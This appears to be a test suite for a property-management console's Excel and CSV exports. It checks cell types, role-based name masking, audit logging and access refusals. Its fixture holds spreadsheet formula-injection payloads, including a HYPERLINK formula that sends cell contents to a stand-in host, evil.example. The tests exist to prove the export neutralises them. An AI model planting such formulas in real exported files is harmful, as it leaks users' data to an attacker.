import { inflateRawSync } from 'node:zlib';
import { EXPORT_ROUTES } from '@guanjia/api-contract';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestContext, type TestContext } from './harness.ts';

/**
 * Exports of the console's tables (issue 12, item 5): each file read back as a spreadsheet program
 * reads it — typed cells, a frozen header, widths, owner-typed text that is never a formula —, the
 * rows exactly those (and as masked as) the list shows the caller, the audit entry, the refusals.
 */

let t: TestContext;
const db = () => t.deps.database.db as any;
const XLSX = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet';
/** Owner-typed text that a spreadsheet would take for a formula. */
const HOSTILE = {
  title: '=HYPERLINK("http://evil.example/?x="&A1,"点我查看")',
  description: '+1 卫生间漏水',
  caller: '@SUM(1+1)',
  category: '-2',
};
let hostileNumber = '';

beforeAll(async () => {
  t = await createTestContext({ withCases: true });
  const zhang = t.a.owners.zhangwei!;
  const owner = await t.ownerLogin(zhang.portalLogin);
  const byOwner = await t.request(owner, {
    method: 'POST',
    url: '/api/cases',
    payload: {
      projectId: t.a.projects.CUIHU!.id,
      type: 'repair',
      channel: 'portal',
      title: HOSTILE.title,
      description: HOSTILE.description,
      unitId: zhang.unitId,
    },
  });
  expect(byOwner.status).toBe(201);
  hostileNumber = byOwner.body.case.number;
  const byAgent = await t.request(await t.login('agent1'), {
    method: 'POST',
    url: '/api/cases',
    payload: {
      projectId: t.a.projects.CUIHU!.id,
      type: 'inquiry',
      channel: 'hotline',
      category: HOSTILE.category,
      description: '来电咨询停车',
      caller: { name: HOSTILE.caller, phone: '13912345678' },
    },
  });
  expect(byAgent.status).toBe(201);
});
afterAll(async () => t?.close());

async function download(token: string, url: string) {
  const res = await t.app.inject({ method: 'GET', url, headers: { authorization: `Bearer ${token}` } });
  return { status: res.statusCode, headers: res.headers, bytes: res.rawPayload, json: () => res.json() };
}
async function sheetOf(bytes: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(bytes as unknown as ArrayBuffer);
  return workbook.worksheets[0]!;
}
/** One file of the .xlsx (a ZIP) as text: the central directory's entry, its deflated bytes inflated. */
function zipEntry(zip: Buffer, name: string): string {
  const end = zip.lastIndexOf(Buffer.from([0x50, 0x4b, 0x05, 0x06]));
  let at = zip.readUInt32LE(end + 16);
  for (let i = 0; i < zip.readUInt16LE(end + 10); i++) {
    const nameLength = zip.readUInt16LE(at + 28);
    const entry = zip.toString('utf8', at + 46, at + 46 + nameLength);
    if (entry === name) {
      const local = zip.readUInt32LE(at + 42);
      const start = local + 30 + zip.readUInt16LE(local + 26) + zip.readUInt16LE(local + 28);
      return inflateRawSync(zip.subarray(start, start + zip.readUInt32LE(at + 20))).toString('utf8');
    }
    at += 46 + nameLength + zip.readUInt16LE(at + 30) + zip.readUInt16LE(at + 32);
  }
  throw new Error(`no ${name} in the file`);
}
/** Every case the list shows this caller (all pages), in its order. */
async function listed(token: string, query = ''): Promise<any[]> {
  const items: any[] = [];
  let cursor: string | null = null;
  do {
    const res = await t.request(token, { method: 'GET', url: `/api/cases?limit=1000${query}${cursor ? `&cursor=${encodeURIComponent(cursor)}` : ''}` });
    expect(res.status).toBe(200);
    items.push(...res.body.items);
    cursor = res.body.nextCursor;
  } while (cursor);
  return items;
}
const rowsOf = (ws: ExcelJS.Worksheet) => ws.getSheetValues().slice(2) as unknown[][];
const headerIndex = (ws: ExcelJS.Worksheet, header: string) => (ws.getRow(1).values as unknown[]).indexOf(header);
const projectName = async (code: 'CUIHU' | 'BINJIANG') =>
  (await db().selectFrom('projects').select('name').where('id', '=', t.a.projects[code]!.id).executeTakeFirstOrThrow()).name as string;
const shanghai = (iso: string) => new Date(Date.parse(iso) + 8 * 3_600_000);

describe('工单台账 as .xlsx (GET /api/exports/cases)', () => {
  it('holds every case of the list, in its order, with typed cells, a frozen bold header and column widths', async () => {
    const token = await t.login('agent1');
    const res = await download(token, '/api/exports/cases');
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe(XLSX);
    expect(String(res.headers['content-disposition'])).toMatch(/^attachment; .*\.xlsx/);
    const ws = await sheetOf(res.bytes);
    expect(ws.name).toBe('工单台账');
    expect(ws.views[0]).toMatchObject({ state: 'frozen', ySplit: 1 });
    expect(ws.getRow(1).getCell(1).font?.bold).toBe(true);
    expect(ws.getColumn(1).width).toBe(22);
    expect(ws.getColumn(headerIndex(ws, '内容')).width).toBe(40);
    const list = await listed(token);
    expect(list.length).toBeGreaterThan(3);
    const numberAt = headerIndex(ws, '工单号');
    expect(rowsOf(ws).map((r) => r[numberAt])).toEqual(list.map((c) => c.number));
    // 受理时间: a real date cell, the Shanghai wall time of the instant, formatted as a date and time
    const createdAt = headerIndex(ws, '受理时间');
    const cell = ws.getRow(2).getCell(createdAt);
    expect(cell.type).toBe(ExcelJS.ValueType.Date);
    expect((cell.value as Date).toISOString().slice(0, 16)).toBe(shanghai(list[0].createdAt).toISOString().slice(0, 16));
    expect(cell.numFmt).toBe('yyyy-mm-dd hh:mm');
    // numbers as numbers
    const rework = ws.getRow(2).getCell(headerIndex(ws, '返工次数'));
    expect(rework.type).toBe(ExcelJS.ValueType.Number);
    expect(rework.value).toBe(list[0].reopenCount);
    // labels in the caller's language
    expect(ws.getRow(2).getCell(headerIndex(ws, '类型')).value).toMatch(/^(咨询|投诉|建议|报修)$/);
  });

  it('writes owner-typed text that looks like a formula as plain text, marked quotePrefix, never as a formula', async () => {
    const res = await download(await t.login('supervisor1'), '/api/exports/cases');
    const ws = await sheetOf(res.bytes);
    const row = rowsOf(ws).find((r) => r[headerIndex(ws, '工单号')] === hostileNumber)!;
    expect(row[headerIndex(ws, '标题')]).toBe(HOSTILE.title);
    expect(row[headerIndex(ws, '内容')]).toBe(HOSTILE.description);
    const cells = rowsOf(ws).flat();
    for (const text of Object.values(HOSTILE)) expect(cells, text).toContain(text);
    ws.eachRow((r) => r.eachCell((c) => expect(c.type, String(c.value)).not.toBe(ExcelJS.ValueType.Formula)));
    // the style of each such cell is Excel's "quote prefix": editing it in Excel keeps it text
    const sheet = zipEntry(res.bytes, 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toContain('<f>');
    const styles = zipEntry(res.bytes, 'xl/styles.xml');
    const xfs = styles.slice(styles.indexOf('<cellXfs')).match(/<xf [^>]*\/>/g)!;
    for (const text of ['=HYPERLINK(', '+1 卫生间漏水', '@SUM(1+1)', '>-2<']) {
      const escaped = text.replaceAll('"', '&quot;');
      const cell = sheet.slice(sheet.lastIndexOf('<c ', sheet.indexOf(escaped)), sheet.indexOf(escaped));
      const style = Number(/ s="(\d+)"/.exec(cell)?.[1] ?? 0);
      expect(xfs[style], text).toContain('quotePrefix="1"');
    }
    // ordinary text has no such mark
    const plain = sheet.slice(sheet.lastIndexOf('<c ', sheet.indexOf('来电咨询停车')), sheet.indexOf('来电咨询停车'));
    expect(plain).not.toMatch(/ s="/);
  });

  it('masks owners’ names as the list masks them for that role', async () => {
    const nameOf = async (username: string) => {
      const ws = await sheetOf((await download(await t.login(username), '/api/exports/cases')).bytes);
      const column = headerIndex(ws, '业主/来电人');
      return rowsOf(ws).map((r) => r[column]);
    };
    // 客服专员 sees 张*; 客服主管 (owner.reveal) sees 张伟 — as on their screens
    const agent = await nameOf('agent1');
    const supervisor = await nameOf('supervisor1');
    expect(agent).toContain('张*');
    expect(agent).not.toContain('张伟');
    expect(supervisor).toContain('张伟');
    const listNames = (await listed(await t.login('agent1'))).map((c) => c.ownerName ?? c.callerName ?? undefined);
    expect(agent).toEqual(listNames);
  });

  it('logs who exported what, with which filters and how many rows', async () => {
    const before = await t.count('audit_log');
    const token = await t.login('agent1');
    const res = await download(token, `/api/exports/cases?format=csv&queue=open&projectId=${t.a.projects.CUIHU!.id}`);
    expect(res.status).toBe(200);
    const entry = await db().selectFrom('auditLog').selectAll().where('action', '=', 'export').orderBy('id', 'desc').executeTakeFirst();
    expect(await t.count('audit_log')).toBe(before + 1);
    const rows = (await listed(token, `&queue=open&projectId=${t.a.projects.CUIHU!.id}`)).length;
    expect(entry).toMatchObject({ actorKind: 'staff', actorId: t.a.staff.agent1, targetType: 'table', targetId: 'cases', projectId: t.a.projects.CUIHU!.id });
    expect(JSON.parse(entry.detail)).toEqual({
      table: 'cases',
      format: 'csv',
      filters: { queue: 'open', projectId: t.a.projects.CUIHU!.id, withinMinutes: 60 },
      rows,
      truncated: false,
      complete: true,
    });
  });

  it('exports the period asked, local dates of Shanghai both included, and a queue as the queue screen lists it', async () => {
    const token = await t.login('supervisor1');
    const all = await listed(token);
    const day = shanghai(all[all.length - 1].createdAt)
      .toISOString()
      .slice(0, 10);
    const ws = await sheetOf((await download(token, `/api/exports/cases?createdFrom=${day}&createdTo=${day}`)).bytes);
    const inDay = all.filter((c) => shanghai(c.createdAt).toISOString().slice(0, 10) === day);
    expect(inDay.length).toBeGreaterThan(0);
    expect(rowsOf(ws).map((r) => r[headerIndex(ws, '工单号')])).toEqual(inDay.map((c) => c.number));
    expect((await listed(token, `&createdFrom=${day}&createdTo=${day}`)).map((c) => c.number)).toEqual(inDay.map((c) => c.number));
    const closed = await sheetOf((await download(token, '/api/exports/cases?queue=closed&type=repair')).bytes);
    expect(rowsOf(closed).map((r) => r[1])).toEqual((await listed(token, '&queue=closed&type=repair')).map((c) => c.number));
  });

  it('answers in English when asked, and as CSV with a byte-order mark and inert fields', async () => {
    const token = await t.login('supervisor1');
    const en = await sheetOf((await download(token, '/api/exports/cases?lang=en')).bytes);
    expect(en.name).toBe('Case ledger');
    expect(en.getRow(1).getCell(1).value).toBe('Number');
    const res = await download(token, '/api/exports/cases?format=csv');
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(String(res.headers['content-disposition'])).toMatch(/\.csv/);
    const text = res.bytes.toString('utf8');
    expect(text.startsWith('\uFEFF工单号,管理处,类型,状态')).toBe(true);
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点我查看"")"`);
    expect(text).toContain(`"'+1 卫生间漏水"`);
    expect(text).toContain(`"'@SUM(1+1)"`);
    expect(text).toContain(`"'-2"`);
    expect(text.split('\r\n').filter(Boolean)).toHaveLength(1 + (await listed(token)).length);
  });

  it('gives a staff member nothing outside their projects, owners nothing at all', async () => {
    // 滨江名苑's agent: none of 翠湖's cases; naming 翠湖 is refused, naming the field
    const agent2 = await t.login('agent2');
    const ws = await sheetOf((await download(agent2, '/api/exports/cases')).bytes);
    const projects = rowsOf(ws).map((r) => r[headerIndex(ws, '管理处')]);
    expect(projects.length).toBeGreaterThan(0);
    expect(new Set(projects)).toEqual(new Set([await projectName('BINJIANG')]));
    const cuihu = await download(agent2, `/api/exports/cases?projectId=${t.a.projects.CUIHU!.id}`);
    expect([cuihu.status, cuihu.json().code, cuihu.json().field]).toEqual([404, 'PROJECT_NOT_FOUND', 'query.projectId']);
    // another company's administrator: none of ours
    const other = await sheetOf((await download(await t.login('b_admin'), '/api/exports/cases')).bytes);
    expect(rowsOf(other).map((r) => r[1])).not.toContain(hostileNumber);
    // owners: no staff export
    const owner = await t.ownerLogin(t.a.owners.zhangwei!.portalLogin);
    for (const url of ['/api/exports/cases', '/api/exports/timeliness', '/api/exports/outcomes', '/api/exports/complaint-categories']) {
      const res = await download(owner, url);
      expect([url, res.status, res.json().code]).toEqual([url, 403, 'FORBIDDEN']);
    }
    // a technician reads cases but no reports
    expect((await download(await t.login('tech1'), '/api/exports/timeliness')).status).toBe(403);
    expect((await download(await t.login('tech1'), '/api/exports/cases')).status).toBe(200);
  });

  it('refuses bad input naming the field, and writes nothing then', async () => {
    const token = await t.login('supervisor1');
    const before = await t.count('audit_log');
    const cases: [string, string, string][] = [
      ['/api/exports/cases?createdFrom=2026-13-01', 'query.createdFrom', 'FIELD_INVALID'],
      ['/api/exports/cases?createdFrom=2026-11-20&createdTo=2026-11-01', 'query.createdTo', 'FIELD_INVALID'],
      ['/api/exports/cases?format=pdf', 'query.format', 'FIELD_INVALID'],
      ['/api/exports/cases?queue=everything', 'query.queue', 'FIELD_INVALID'],
      ['/api/exports/timeliness?groupBy=colour', 'query.groupBy', 'FIELD_INVALID'],
      ['/api/exports/outcomes?from=2026-12-01&to=2026-11-01', 'query.to', 'FIELD_INVALID'],
    ];
    for (const [url, field, code] of cases) {
      const res = await download(token, url);
      expect([url, res.status, res.json().field, res.json().code]).toEqual([url, 400, field, code]);
    }
    const unknown = await download(token, '/api/exports/cases?projectId=no-such-project');
    expect([unknown.status, unknown.json().field]).toEqual([404, 'query.projectId']);
    expect(await t.count('audit_log')).toBe(before);
  });
});

describe('the dashboard’s tables as files', () => {
  const year = 'from=2026-01-01&to=2027-01-01';

  it('timeliness: the report’s rows and total, rates as percentages', async () => {
    const token = await t.login('manager1');
    const report = (await t.request(token, { method: 'GET', url: `/api/reports/timeliness?groupBy=clock&${year}` })).body;
    expect(report.rows.length).toBeGreaterThan(0);
    const ws = await sheetOf((await download(token, `/api/exports/timeliness?groupBy=clock&${year}`)).bytes);
    expect(ws.getRow(1).values).toEqual([undefined, '时限', '按时', '超时', '合计', '及时率']);
    const rows = rowsOf(ws);
    expect(rows).toHaveLength(report.rows.length + 1);
    expect(rows.at(-1)!.slice(1)).toEqual(['合计', report.total.met, report.total.breached, report.total.total, report.total.rate ?? undefined]);
    const rated = report.rows.findIndex((r: { rate: number | null }) => r.rate !== null);
    const rate = ws.getRow(rated + 2).getCell(5);
    expect(rate.type).toBe(ExcelJS.ValueType.Number);
    expect(rate.value).toBe(report.rows[rated].rate);
    expect(rate.numFmt).toBe('0.0%');
    expect(rows.map((r) => r[1])).toContain('初次答复');
  });

  it('outcomes and complaint categories, as xlsx and CSV, each logged', async () => {
    const token = await t.login('manager1');
    const report = (await t.request(token, { method: 'GET', url: `/api/reports/outcomes?groupBy=project&${year}` })).body;
    const ws = await sheetOf((await download(token, `/api/exports/outcomes?groupBy=project&${year}`)).bytes);
    const cuihu = await projectName('CUIHU');
    expect(rowsOf(ws).map((r) => r[1])).toEqual(report.rows.map(() => cuihu));
    expect(ws.getRow(2).getCell(3).numFmt).toBe('0.0%');
    // out-of-scope closures and reopened cases are counted apart, as the report answers them
    expect([6, 7, 8].map((c) => ws.getRow(1).getCell(c).value)).toEqual(['非物业范围', '曾重开', '一次解决']);
    expect(ws.getRow(2).getCell(6).value).toBe(report.rows[0].outOfScope);
    const csv = (await download(token, `/api/exports/outcomes?groupBy=project&${year}&format=csv`)).bytes.toString('utf8');
    const success = report.rows[0].successRate;
    expect(csv).toContain(success === null ? ',' : `${(success * 100).toFixed(1)}%`);
    const categories = await sheetOf((await download(token, `/api/exports/complaint-categories?${year}`)).bytes);
    expect(rowsOf(categories).map((r) => r[2])).toEqual(report.complaintCategories.map((c: { count: number }) => c.count));
    const logged = await db().selectFrom('auditLog').select(['targetId']).where('action', '=', 'export').where('actorId', '=', t.a.staff.manager1).execute();
    expect(logged.map((l: { targetId: string }) => l.targetId)).toEqual(expect.arrayContaining(['outcomes', 'complaint_categories']));
  });

  it('goes through the contract: the documented content types', async () => {
    const token = await t.login('manager1');
    const xlsx = await t.request(token, { method: 'GET', url: `/api/exports/timeliness?${year}` });
    const csv = await t.request(token, { method: 'GET', url: `/api/exports/complaint-categories?${year}&format=csv` });
    expect([xlsx.status, xlsx.headers['content-type'], csv.status, csv.headers['content-type']]).toEqual([200, XLSX, 200, 'text/csv; charset=utf-8']);
  });

  it('documents each export route with the query the console’s download helper is typed from', async () => {
    const doc = (await t.request(null, { method: 'GET', url: '/api/openapi.json' })).body;
    for (const [key, schema] of Object.entries(EXPORT_ROUTES)) {
      const op = doc.paths[key.slice('GET '.length)]?.get;
      expect(op, key).toBeDefined();
      const names = (op.parameters ?? []).filter((p: { in: string }) => p.in === 'query').map((p: { name: string }) => p.name);
      expect(names.sort(), key).toEqual(Object.keys(schema.shape).sort());
      // the formats a route takes are the media types it documents
      const media = { xlsx: 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', csv: 'text/csv', pdf: 'application/pdf' };
      const formats = (schema.shape.format as unknown as { unwrap: () => { options: (keyof typeof media)[] } }).unwrap().options;
      expect(Object.keys(op.responses['200'].content).sort(), key).toEqual(formats.map((f) => media[f]).sort());
    }
  });
});
